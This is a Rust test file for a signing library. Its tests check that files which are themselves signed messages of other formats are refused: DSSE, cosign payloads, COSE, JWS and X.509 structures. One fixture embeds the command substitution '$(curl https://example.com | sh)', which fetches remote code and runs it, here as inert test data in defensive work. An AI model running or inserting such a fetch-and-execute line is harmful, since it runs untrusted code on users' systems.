//! Files that are messages of other signatures are not signed: a signature over one would be a signature of an image, of an
//! attestation or a certificate, or a token.

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use bulla::envelope::FileToSign;
use bulla::envelope::MessageSignature;
use bulla::envelope::SignatureInput;
use bulla::envelope::pre_authentication_encoding;
use bulla::key::KeyKind;
use bulla::key::PrivateKey;
use bulla::key::Signer as _;
use bulla::limits::Limits;
use bulla::ops::file;
use bulla::ops::file::FileEvidence;
use bulla::ops::file::FileRefusal;
use bulla::ops::file::FileSigningError;
use bulla::ops::file::FileVerification;
use bulla::policy::FileStatement;
use bulla::policy::Quorum;
use bulla::policy::Threshold;
use bulla::time::Time;
use bulla::trust::TrustRoot;
use bulla::trust::VerificationTime;
use bulla::x509::CertificationRequest;
use bulla::x509::Name;
use bulla::x509::Purpose;

const CLAIM: &str = r#"{"critical":{"identity":{"docker-reference":""},"image":{"docker-manifest-digest":"sha256:00"},"type":"cosign container image signature"},"optional":null}"#;

/// A reader that hands out a byte at a time.
struct Slow<'a>(&'a [u8]);

impl std::io::Read for Slow<'_> {
    fn read(&mut self, buffer: &mut [u8]) -> std::io::Result<usize> {
        let length = self.0.len().min(buffer.len()).min(1);
        let (now, later) = self.0.split_at(length);
        buffer[..length].copy_from_slice(now);
        self.0 = later;
        Ok(length)
    }
}

/// What a file is refused as; none if it is signed.
fn refused_as(content: &[u8], key: &PrivateKey) -> Option<SignatureInput> {
    let limits = Limits::DEFAULT;
    let file = FileToSign::read(&mut &content[..], &[key], &limits).unwrap();
    let in_pieces = FileToSign::read(&mut Slow(content), &[key], &limits).unwrap();
    assert_eq!(file.signature_input(), in_pieces.signature_input());
    match file::sign(&file, key) {
        Ok(_) => None,
        Err(FileSigningError::SignatureInput(input)) => Some(input),
        Err(other) => panic!("{other}"),
    }
}

fn jws(header: &str, payload: &str) -> Vec<u8> {
    format!("{}.{}", URL_SAFE_NO_PAD.encode(header), URL_SAFE_NO_PAD.encode(payload)).into_bytes()
}

#[test]
fn the_message_of_every_format_is_refused() {
    let pae = pre_authentication_encoding("application/vnd.in-toto+json", b"{}");
    let cose = [b"\x84\x6aSignature1\x43\xa1\x01\x26\x40\x42{}".as_slice()].concat();
    for kind in [KeyKind::P256, KeyKind::Ed25519, KeyKind::P384] {
        let key = PrivateKey::generate(kind).unwrap();
        for (content, wanted) in [
            (pae.as_slice(), SignatureInput::DssePreAuthenticationEncoding),
            (CLAIM.as_bytes(), SignatureInput::SimpleSigningPayload),
            (cose.as_slice(), SignatureInput::CoseSigStructure),
            (
                &jws(r#"{"alg":"ES256","cty":"application/vnd.cncf.notary.payload.v1+json"}"#, "{}"),
                SignatureInput::JwsSigningInput,
            ),
        ] {
            assert_eq!(refused_as(content, &key), Some(wanted));
        }
    }
}

/// Who signed an image or a statement has not signed the file that the signed message is, which says what its author wrote.
#[test]
fn a_signature_of_another_kind_is_no_signature_of_a_file() {
    let script = b"{\n\"x\": \"$(curl https://example.com | sh)\"\n}";
    let pae = pre_authentication_encoding("application/vnd.in-toto+json", script);
    let verdict = |content: &[u8], key: &PrivateKey, statement: FileStatement| {
        let trust = TrustRoot::pinned([key.public_key().clone()]).unwrap();
        let by = FileVerification {
            limits: &Limits::DEFAULT,
            quorum: &Quorum::of_all(&trust, Threshold::ONE).unwrap(),
            statement: &statement,
            time: VerificationTime::now(Time::EPOCH),
            trust: &trust,
        };
        let signature = key.sign(content).unwrap().as_bytes().to_vec();
        let mut evidence = FileEvidence::new();
        evidence.add_signature("sig", &signature);
        evidence.add_bundle(
            "bundle",
            &MessageSignature { digest: None, signature }.to_bundle_json(key.public_key()).unwrap(),
            &Limits::DEFAULT,
        );
        let file = FileToSign::read_with(&mut Slow(content), evidence.hasher(&trust, &Limits::DEFAULT)).unwrap();
        let codes = |refusal: Box<FileRefusal>| {
            assert!(!refusal.is_undetermined() && refusal.accepted.is_empty());
            refusal.findings.iter().map(|finding| finding.reason.code()).collect::<Vec<_>>()
        };
        // Of a digest alone it cannot be told.
        assert!(by.verify(file.message(), &evidence).is_ok());
        by.verify_file(&file, &evidence).map(drop).map_err(codes)
    };
    for kind in [KeyKind::P256, KeyKind::Ed25519] {
        let key = PrivateKey::generate(kind).unwrap();
        for content in [pae.as_slice(), CLAIM.as_bytes(), b"\x84\x6aSignature1\x40\x40\x40", &jws("{}", "{}")] {
            for statement in [FileStatement::Signature, FileStatement::Any] {
                assert_eq!(verdict(content, &key, statement), Err(vec!["signature-input"; 2]));
            }
        }
        assert_eq!(verdict(script, &key, FileStatement::Signature), Ok(()));
    }
}

#[test]
fn a_simple_signing_payload_is_found_in_every_spelling() {
    let key = PrivateKey::generate(KeyKind::P256).unwrap();
    let image = r#"{"image":{"docker-manifest-digest":"sha256:00"}}"#;
    let padding = "x".repeat(3 << 20);
    for content in [
        format!(" \n\t{CLAIM}\n"),
        format!(r#"{{"optional":"{padding}","a":[{{"critical":1}},"}}"],"critical":{image}}}"#),
        format!(r#"{{"critical" : {image}}}"#),
        format!(r#"{{"\u0063ritica\u006c":{image}}}"#),
        format!(r#"{{"CRITICAL":{}}}"#, image.replace("image", "Image")),
        format!(r#"{{"critical":null,"critical":{image}}}"#),
        r#"{"critical":{"identity":{"a":"}"},"image":1}}"#.to_owned(),
        r#"{"critical":{"type":"cosign\u0020container image signature"}}"#.to_owned(),
        r#"{"critical":{"a":[1,{"b":"\"}"}],"type":"cosign container image signature"}}"#.to_owned(),
    ] {
        let shown: String = content.chars().take(60).collect();
        assert_eq!(refused_as(content.as_bytes(), &key), Some(SignatureInput::SimpleSigningPayload), "{shown}");
    }
}

#[test]
fn a_jws_signing_input_is_found_with_spaces_before_the_header() {
    let key = PrivateKey::generate(KeyKind::P256).unwrap();
    for header in ["{}", " {}", "\n\t{\"alg\":\"ES256\"}", &format!("{}{{}}", " ".repeat(10_000))] {
        assert_eq!(refused_as(&jws(header, "{}"), &key), Some(SignatureInput::JwsSigningInput));
        assert_eq!(refused_as(&jws(header, ""), &key), Some(SignatureInput::JwsSigningInput));
    }
}

/// An element of BER with its length in the short form.
fn element(tag: u8, content: &[&[u8]]) -> Vec<u8> {
    let content = content.concat();
    [&[tag, u8::try_from(content.len()).ok().filter(|length| *length < 0x80).unwrap()][..], &content].concat()
}

/// The element with another head: the identifier and the length in another form.
fn with_head(head: &[u8], element: &[u8]) -> Vec<u8> {
    [head, &element[2..]].concat()
}

const NUMBER: &[u8] = &[2, 1, 0];
const ALGORITHM: &[u8] = b"\x30\x0a\x06\x08\x2a\x86\x48\xce\x3d\x04\x03\x02";
const NAME: &[u8] = b"\x30\x0c\x31\x0a\x30\x08\x06\x03\x55\x04\x03\x0c\x01a";
const REST: &[u8] = &[0x30, 0];
const TIME: &[u8] = b"\x18\x0f20261128000000Z";
/// The content type of the contents of a PKCS#12 file: 1.2.840.113549.1.7.1.
const DATA: &[u8] = b"\x30\x0b\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01";
/// The beginning of what follows those contents.
const MAC: &[u8] = &[0x30, 4, 0x30, 2, 6, 0];

/// The request for a certificate that an owner hands out is no signature of a file, and a file that an owner signs is no
/// request (threats: signature-of-another-kind).
#[test]
fn what_a_certificate_or_a_request_for_one_is_signed_over_is_refused() {
    let key = PrivateKey::generate(KeyKind::P256).unwrap();
    let subject = Name::parse("CN=release,O=Example").unwrap();
    let made = CertificationRequest::make(&subject, &[], Purpose::Signing, &key).unwrap();
    // The first element of three in a sequence.
    let content = &made.der()[if made.der()[1] == 0x81 { 3 } else { 4 }..];
    let (head, length) = match content[1] {
        0x81 => (3, usize::from(content[2])),
        short => (2, usize::from(short)),
    };
    let info = &content[..head + length];
    let short = element(0x30, &[NUMBER, NAME, REST]);
    let version = element(0xa0, &[&[2, 1, 2]]);
    let longest = [&[0x30, 0x83, 1, 0, 0, 2, 0x82, 8, 0][..], &[0; 2048], NAME, REST].concat();
    let long_algorithm = [&[0x30, 0x82, 8, 0, 2, 1, 1, 0x30, 0x82, 4, 0, 6][..], &[1; 1023]].concat();
    let endless = [&[0x30, 0x80, 2, 1, 0, 0x30, 0x80][..], &NAME[2..], &[0, 0], REST, &[0, 0]].concat();
    for (what, message) in [
        ("a certification request", info.to_vec()),
        ("a short one", short.clone()),
        ("one without a name", element(0x30, &[NUMBER, REST, REST])),
        ("one with an unknown version", element(0x30, &[&[2, 2, 1, 9], NAME, REST])),
        ("a longer length", with_head(&[0x30, 0x84, 0, 0, 0, 23], &short)),
        ("a longer identifier", with_head(&[0x3f, 0x10, 23], &short)),
        ("one with leading zeros", with_head(&[0x3f, 0x80, 0x10, 23], &short)),
        ("ends that are marked", endless),
        ("a version whose end is marked", element(0x30, &[&[0xa0, 0x80, 2, 1, 2, 0, 0], &[2, 1, 7]])),
        ("an empty name whose end is marked", element(0x30, &[NUMBER, &[0x30, 0x80, 0, 0], REST, &[0xa0, 0]])),
        ("an empty issuer whose end is marked", element(0x30, &[&[2, 1, 1], ALGORITHM, &[0x30, 0x80, 0, 0]])),
        ("an algorithm whose end is marked", element(0x30, &[NUMBER, &[0x30, 0x80, 6, 1, 1, 0, 0], NAME])),
        ("a version that is not read to its end", longest),
        ("an algorithm that is longer than what is kept", [&long_algorithm[..], NAME].concat()),
        ("an empty name after such an algorithm", [&long_algorithm[..], &[0x30, 0x80, 0, 0]].concat()),
        (
            "a name that is longer than what is kept",
            [&long_algorithm[..], &[0x30, 0x82, 8, 0, 0x3f], &[0x91; 2000]].concat(),
        ),
        ("a revocation list with the algorithm of a PKCS#12 file", element(0x30, &[&[2, 1, 1], DATA, NAME])),
        ("a certificate template", element(0x30, &[&[2, 1, 1], &[0x30, 2, 0xa1, 0]])),
        ("an OCSP response by name", element(0x30, &[&element(0xa1, &[NAME]), TIME, REST])),
        ("an OCSP response by key", element(0x30, &[&[0xa2, 3, 4, 1, 7], TIME, REST])),
        ("an OCSP response with a version", element(0x30, &[&[0xa0, 3], NUMBER, &[0xa2, 3, 4, 1, 7], TIME, REST])),
        ("a certificate", element(0x30, &[&version, &[2, 1, 7], ALGORITHM, NAME])),
        ("a certificate of version 1", element(0x30, &[&[2, 1, 7], ALGORITHM, NAME, REST])),
        ("a revocation list", element(0x30, &[&[2, 1, 1], ALGORITHM, NAME])),
        ("a revocation list of version 1", element(0x30, &[ALGORITHM, NAME])),
    ] {
        assert_eq!(refused_as(&message, &key), Some(SignatureInput::X509ToBeSigned), "{what}");
    }
    for (what, message) in [
        ("a whole certification request", made.der().to_vec()),
        ("a public key", key.public_key().spki().to_vec()),
        ("a private key", element(0x30, &[NUMBER, ALGORITHM, &[4, 1, 0]])),
        ("an encrypted private key", element(0x30, &[ALGORITHM, &[4, 1, 0]])),
        ("an RSA key", element(0x30, &[NUMBER, NUMBER, NUMBER])),
        ("a signature", key.sign(b"x").unwrap().as_bytes().to_vec()),
        ("a PKCS#12 file", [&[0x30, 0x82, 16, 0, 2, 1, 3, 0x30, 0x82, 8, 0][..], &DATA[2..], &[0; 2037], MAC].concat()),
        ("one that is cut off in its algorithm", long_algorithm.clone()),
        ("a certificate", element(0x30, &[&element(0x30, &[&version, &[2, 1, 7], ALGORITHM, NAME]), ALGORITHM])),
        ("one that is cut off", info[..4].to_vec()),
        ("a set", with_head(&[0x31, 23], &short)),
        ("another class", with_head(&[0x70, 23], &short)),
        ("a text", b"0123".to_vec()),
    ] {
        assert_eq!(refused_as(&message, &key), None, "{what}");
    }
}

#[test]
fn other_files_are_signed() {
    let key = PrivateKey::generate(KeyKind::P256).unwrap();
    let token = [jws("{}", "{}"), b".c2ln".to_vec()].concat();
    for content in [
        "",
        "DSSEv1",
        "see DSSEv1 of the specification",
        "hello.world",
        "1.0",
        "release 1.0\n",
        r#"{"critical":3,"image":{}}"#,
        r#"{"critical":{"count":3},"image":{}}"#,
        r#"{"a":{"critical":{"image":1}}}"#,
        r#"[{"critical":{"image":1}}]"#,
        r#"{"critical":["image"],"type":"cosign container image signature"}"#,
        r#""critical""#,
        r#"{"\u0063":{}}"#,
        std::str::from_utf8(&token).unwrap(),
        std::str::from_utf8(&[jws("{}", "{}"), b"\n".to_vec()].concat()).unwrap(),
        std::str::from_utf8(&jws("[]", "{}")).unwrap(),
    ] {
        assert_eq!(refused_as(content.as_bytes(), &key), None, "{content}");
    }
}
